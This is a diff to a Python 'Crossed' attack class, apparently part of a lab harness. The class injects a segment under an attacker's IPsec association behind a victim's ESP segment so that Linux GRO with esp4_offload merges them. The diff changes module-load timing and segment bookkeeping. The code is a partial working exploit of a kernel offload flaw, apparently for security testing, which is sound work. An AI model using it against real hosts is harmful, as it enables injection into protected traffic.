@@ -141,7 +141,7 @@ class Crossed(Attack):
     """Behind a full segment of A's stream, in one batch for host B's GRO, a segment under the
     attacker's own association that continues it: with esp4_offload the kernel joins the two, and
     asks the first one's association only.  late=SECONDS: the module is loaded when both are latched,
-    and so much later the segments come."""
+    and so much later the segments come, those that A repeats among them."""
     LOADS_MODULES = True
     SETUP = {"M": f"""
         modprobe sch_netem
@@ -155,42 +155,40 @@ class Crossed(Attack):
         tc qdisc delete dev middleB root
         for try in $(seq 100); do modprobe -qr esp4_offload && break; sleep 0.1; done
         [ ! -e /sys/module/esp4_offload ]"""}
-    # A full segment's packet and payload; what A's kernel cut the stream into before it knew of ESP,
-    # of which each piece ends with a small segment.  The full one behind that does not bear PSH, which
-    # would end what the kernel joins.
-    FULL_PACKET, FULL_PAYLOAD, PIECE = 1500, 1426, 1460
+    # A full segment's packet and payload.  Only the last segment of what a program sends at once bears
+    # PSH, which would end what the kernel joins.
+    FULL_PACKET, FULL_PAYLOAD = 1500, 1426
     WINDOW = 501
 
     def __init__(self, flow, options):
         super().__init__(flow, options)
-        self.loaded, self.held = None, []
+        self.loaded, self.began = False, None
+        self.held = []
         # Where the stream's next segment begins; the first is taken for T5.
-        self.place, self.piece_ended, self.is_done = self.FULL_PAYLOAD, False, False
+        self.place, self.is_done = self.FULL_PAYLOAD, False
         if not self.number("late"):
             self.load()
 
     def load(self):
         subprocess.run(["modprobe", "esp4_offload"], check=True)
-        self.loaded = time.monotonic()
+        self.loaded = True
 
     def frame(self, side, frame, name):
         if name != "data.A" or frame.protocol != ESP:
             return [frame]
-        if self.loaded is None:
+        if not self.loaded:
             self.load()
+        if self.began is None:
+            self.began = time.monotonic()
         self.held.append(frame)
-        if time.monotonic() < self.loaded + self.number("late"):
+        if time.monotonic() < self.began + self.number("late"):
             return []
         passing, self.held = self.held, []
         return [passed for held in passing for passed in self.with_continuation(held)]
 
     def with_continuation(self, frame):
-        is_full = len(frame.packet) == self.FULL_PACKET
+        strikes = len(frame.packet) == self.FULL_PACKET and not self.is_done
         self.place += len(frame.packet) - self.FULL_PACKET + self.FULL_PAYLOAD
-        if not is_full:
-            self.place -= self.place % self.PIECE  # padding
-        strikes = is_full and self.piece_ended and not self.is_done
-        self.piece_ended = not is_full
         self.is_done |= strikes
         return [frame, self.continuation(frame)] if strikes else [frame]
 
